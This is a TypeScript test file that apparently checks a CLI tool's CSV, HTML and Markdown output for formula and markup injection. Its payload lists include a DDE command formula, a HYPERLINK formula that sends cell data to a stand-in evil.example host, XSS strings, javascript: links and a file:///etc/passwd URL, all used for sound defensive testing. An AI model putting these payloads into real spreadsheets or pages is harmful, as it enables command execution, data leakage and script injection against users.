import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runBatch } from '../batch/run-batch.ts';
import { runCommand } from '../support/run-command.ts';
import { expectHarmless } from './expect-harmless.ts';
import { rewriteWords, smallDatasetFolder } from './hostile-dataset.ts';

const GOOD = { goals: ['lead-generation'], monthlyBudget: 5000, timelineMonths: 6 };
const ANSWERS = JSON.stringify(GOOD);
const data = smallDatasetFolder();

/** What a spreadsheet would run (OWASP, CSV injection), the full-width forms included. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example?"&A1)',
  '=1+1"=1+1',
  '",=1+1,"',
  '"=1+1',
  '\n=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n+1',
  '\nplain',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000\uff1d1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060-1+1',
  '\u00ad \u200d\n+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A',
  '=',
  '-',
  '--1',
  '-1e5+1',
];
/** A cell that a spreadsheet would take for a formula: one that is no plain number and begins like one, unseen signs left out. */
const isFormula = (cell: string): boolean =>
  /^(?:[\t\r\n]|[\s\u00ad\u200b-\u200d\u2060]*[=+\-@\uff0b\uff0d\uff1d\uff20])/.test(cell) &&
  !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
const cellsOf = (csv: string): readonly (readonly string[])[] => parse(csv);

describe('a formula', () => {
  it.each(FORMULAS)('runs in no cell of a batch, as an id and in an error: %j', async (text) => {
    const lines = [{ id: text, ...GOOD }, { id: text }, { ...GOOD, [text]: 1 }, { ...GOOD, audience: text }];
    const { stdout } = await runBatch(lines.map((line) => `${JSON.stringify(line)}\n`).join(''), {
      outputFormat: 'csv',
      data,
    });
    const rows = cellsOf(stdout);
    expect(rows.map((cells) => cells.length)).toEqual([9, 9, 9, 9, 9].map(() => rows[0]?.length));
    expect(rows.flat().filter(isFormula)).toEqual([]);
  });

  it('runs in no cell of the ids that were reported', async () => {
    const lines = readFileSync('tests/fixtures/bugs/15-formula-after-space.ndjson', 'utf8');
    const { stdout } = await runBatch(lines, { outputFormat: 'csv', fields: 'verdict', data });
    const ids = cellsOf(stdout)
      .slice(1)
      .map(([, id]) => id);
    expect(ids).toEqual(["'\n=1+1", "'\u00a0=1+1", "' =1+1"]);
  });

  it('runs in no cell, and leaves every cell where it was, whatever the id is', async () => {
    const id = fc
      .array(
        fc.oneof(
          fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', '\n', '\r', '\t', '|', '\u001b'),
          fc.string({ maxLength: 4 }),
        ),
        { maxLength: 8 },
      )
      .map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(fc.array(id, { minLength: 1, maxLength: 20 }), async (ids) => {
        const input = ids.map((each) => `${JSON.stringify({ id: each, ...GOOD })}\n`).join('');
        const { stdout } = await runBatch(input, { outputFormat: 'csv', fields: 'verdict', data });
        const rows = cellsOf(stdout).slice(1);
        expect(rows.map(([line, , , error]) => [line, error])).toEqual(ids.map((_, index) => [String(index + 1), '']));
        expect(rows.flat().filter(isFormula)).toEqual([]);
        expectHarmless(stdout);
      }),
      { numRuns: 30 },
    );
  });

  it.each(FORMULAS.filter((text) => !/[\t\r\n]/.test(text)))(
    'runs in no cell when a dataset says it: %j',
    async (text) => {
      const folder = smallDatasetFolder((files) => rewriteWords(files, () => text));
      for (const args of [
        ['ask', '-', '--format=csv'],
        ['compare', '--csv'],
      ]) {
        const { code, stdout } = await runCommand([...args, '--data', folder], { input: ANSWERS });
        const rows = cellsOf(stdout);
        expect(code).toBe(0);
        expect(new Set(rows.map((cells) => cells.length)).size).toBe(1);
        expect(rows.flat().filter(isFormula)).toEqual([]);
      }
    },
  );
});

/** What a page or a Markdown reader would make something of. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style><b>',
  '<!--',
  ']]><![CDATA[',
  '&lt;b&gt;&#x3c;',
  '[a](javascript:alert(1))',
  '![a](https://evil.example/p)',
  '[a]: https://evil.example',
  '<https://evil.example>',
  '`code` ``` ~~~',
  '**b** __b__ ~~s~~',
  '| a | b |',
  '|---|',
  '\\[a](b)\\',
  '# heading',
  '> quote',
  '1. one',
  '- [ ] task',
  '---',
  '===',
  '    code',
  '{inbound} {outbound} $& $1',
];
/** What was written already, by the words and the command. */
const pages = new Map<string, string>();
const page = async (text: string, args: readonly string[]) => {
  const known = pages.get(`${text} ${args}`);
  if (known !== undefined) return known;
  const folder = smallDatasetFolder((files) => rewriteWords(files, () => text));
  const { code, stdout } = await runCommand([...args, '--data', folder], { input: ANSWERS });
  expect(code).toBe(0);
  expectHarmless(stdout);
  pages.set(`${text} ${args}`, stdout);
  return stdout;
};

/** The tags of a page with the names of their attributes; what stands between quotes is a value. */
const tagsOf = (html: string) => [...html.replace(/"[^"]*"/g, '""').matchAll(/<[^>]*>/g)].map(([tag]) => tag);

/** What Markdown makes of a document: how its lines begin, and which signs in them are neither escaped nor a link's. */
const shapeOf = (markdown: string) =>
  markdown
    .replace(/\(<https:[^<>\s]*>\)/g, '()')
    .replace(/\\[!-/:-@[-`{-~]|&(amp|lt|gt|quot);/g, 'x')
    .split('\n')
    .map((line) => [/^ *([-+*>=]|#+|\d+[.)]|)/.exec(line)?.[0], line.match(/[`*_[\]<|~#]/g)?.join('')]);

describe('markup', () => {
  it.each(MARKUP)('makes nothing of a page when a dataset says it: %s', async (text) => {
    for (const args of [
      ['ask', '-', '--format=html'],
      ['compare', '--format=html'],
    ]) {
      expect(tagsOf(await page(text, args))).toEqual(tagsOf(await page('x'.repeat(text.length), args)));
    }
  });

  it.each(MARKUP)('makes nothing of Markdown when a dataset says it: %s', async (text) => {
    for (const args of [
      ['ask', '-', '--format=markdown'],
      ['compare', '--markdown'],
    ]) {
      expect(shapeOf(await page(text, args))).toEqual(shapeOf(await page('x', args)));
    }
  });

  it('has no address linked in Markdown that stands in a text of a dataset', async () => {
    const text = 'https://evil.x and WWW.evil.x';
    for (const args of [
      ['ask', '-', '--format=markdown'],
      ['compare', '--markdown'],
    ]) {
      const markdown = await page(text, args);
      expect(markdown).toContain('https\\://evil.x and WWW\\.evil');
      expect(markdown).not.toMatch(/(?<!\\):\/\/evil|www\.evil/i);
    }
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,<b>',
    'vbscript:x',
    'file:///etc/passwd',
    ' https://a.example',
    'https://a.example/ b',
    '//a.example',
    'https:evil',
    'https://',
  ])('cannot be linked to as a source: %s', async (url) => {
    const folder = smallDatasetFolder(({ sources }) => {
      sources.sources[0].url = url;
    });
    const { code, stdout } = await runCommand(['check', folder]);
    expect([code, stdout.match(/^error .*sources\.json:\d+:\d+: sources\[0\]\.url .*/gm)?.length]).toEqual([2, 1]);
  });

  it.each([
    'https://a.example/"><b>',
    "https://a.example/'onclick='x",
    'https://a.example/)[b](javascript:x)',
    'https://a.example/>|`<b>',
    'https://a.example/\\',
    'https://a.example/&quot;&lt;',
  ])('stays in the address of a source: %s', async (url) => {
    const document = async (address: string, format: string) => {
      const folder = smallDatasetFolder(({ sources }) => {
        for (const source of sources.sources) source.url = address;
      });
      const { code, stdout } = await runCommand(['ask', '-', '--format', format, '--data', folder], { input: ANSWERS });
      expect(code).toBe(0);
      return stdout;
    };
    const plain = 'https://a.example/x';
    expect(tagsOf(await document(url, 'html'))).toEqual(tagsOf(await document(plain, 'html')));
    expect(shapeOf(await document(url, 'markdown'))).toEqual(shapeOf(await document(plain, 'markdown')));
  });
});
